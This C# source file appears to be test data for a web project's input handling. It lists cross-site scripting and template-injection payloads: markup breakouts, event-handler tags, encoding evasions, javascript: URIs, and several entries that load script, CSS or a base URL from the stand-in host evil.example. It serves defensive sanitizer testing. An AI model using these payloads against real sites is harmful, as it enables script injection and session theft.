namespace Meguri.Web.BadInput;

/// <summary>Texts that would act if a page took them for markup.</summary>
internal static class Markup
{
    private static readonly string[] Calls = ["alert(1)", "window.__xss=1", "top['al'+'ert'](1)"];
    private static readonly string[] Tags = ["img src=x onerror={0}", "svg onload={0}", "body onload={0}", "input autofocus onfocus={0}", "details open ontoggle={0}", "video src=x onerror={0}", "audio src=x onerror={0}", "marquee onstart={0}", "math><mtext onclick={0}", "iframe srcdoc='<script>{0}</script>'", "object data=javascript:{0}", "a href=javascript:{0}", "form action=javascript:{0}", "svg><animate onbegin={0} attributeName=x"];
    private static readonly string[] Around = ["<{0}>", "\"><{0}>", "'><{0}//"];

    private static readonly string[] Others =
    [
        "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</select><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "java\tscript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\\u003cscript\\u003ealert(1)", "＜script＞alert(1)＜/script＞",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "[[risk:4711]]", "![x](https://evil.example/x.png)", "[click](javascript:alert(1))", "<https://evil.example>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>", "<template><script>alert(1)</script></template>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` onclick=`alert(1)",
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> Vectors { get; } =
    [
        .. Others, .. from tag in Tags from call in Calls from around in Around select string.Format(System.Globalization.CultureInfo.InvariantCulture, around, string.Format(System.Globalization.CultureInfo.InvariantCulture, tag, call)),
    ];
}
